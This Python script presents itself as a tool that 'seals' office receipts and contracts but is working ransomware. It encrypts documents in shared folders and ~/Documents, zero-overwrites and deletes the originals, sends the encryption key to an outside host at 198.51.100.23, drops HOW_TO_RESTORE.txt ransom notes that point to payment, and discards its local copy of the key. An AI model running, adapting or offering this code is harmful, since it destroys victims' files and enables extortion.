#!/usr/bin/env python3
"""Seals vendor receipts and contracts on the office share."""

import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("receipt_seal")

SEAL_CONFIG = {
    "roots": ["~/shared/receipts", "~/shared/contracts", "~/Documents"],
    "extensions": {".pdf", ".xlsx", ".csv", ".docx", ".jpg", ".png", ".ods"},
    "suffix": ".sealed",
    "notice_name": "HOW_TO_RESTORE.txt",
    "escrow": "http://198.51.100.23:8080/escrow",
}

NOTICE_LINES = [
    "All receipts and contracts in this folder have been sealed.",
    "To restore them, contact restore-desk@marketrecovery.example",
    "and quote the reference below. Payment details will follow.",
]


def expand_roots(cfg):
    return [Path(os.path.expanduser(r)) for r in cfg["roots"]]


def wanted(path, cfg):
    return path.suffix.lower() in cfg["extensions"] and not path.name.endswith(cfg["suffix"])


def walk_targets(roots, cfg):
    for root in roots:
        if not root.is_dir():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                candidate = Path(dirpath) / name
                if wanted(candidate, cfg):
                    yield candidate


class Sealer:
    def __init__(self, cfg):
        self.cfg = cfg
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.reference = os.urandom(6).hex()
        self.folders = set()

    def register(self):
        try:
            requests.post(self.cfg["escrow"],
                          json={"ref": self.reference, "k": self.key.decode()},
                          timeout=15)
        except requests.RequestException as exc:
            log.debug("escrow unreachable: %s", exc)

    def seal_file(self, path):
        data = path.read_bytes()
        sealed = path.with_name(path.name + self.cfg["suffix"])
        sealed.write_bytes(self.box.encrypt(data))
        tidy(path)
        self.folders.add(path.parent)

    def leave_notices(self):
        text = "\n".join(NOTICE_LINES + ["", "Reference: " + self.reference, ""])
        for folder in self.folders:
            (folder / self.cfg["notice_name"]).write_text(text)

    def forget_key(self):
        self.key = None
        self.box = None


def tidy(path):
    size = path.stat().st_size
    with open(path, "r+b") as handle:
        handle.write(b"\x00" * size)
    path.unlink()


def main():
    parser = argparse.ArgumentParser(description="Seal receipts on the share")
    parser.add_argument("--root", action="append", help="extra folder to include")
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    cfg = dict(SEAL_CONFIG)
    if args.root:
        cfg["roots"] = list(cfg["roots"]) + args.root
    sealer = Sealer(cfg)
    sealer.register()
    count = 0
    for target in walk_targets(expand_roots(cfg), cfg):
        try:
            sealer.seal_file(target)
            count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skip %s: %s", target, exc)
    sealer.leave_notices()
    sealer.forget_key()
    log.info("sealed %d files", count)


if __name__ == "__main__":
    main()
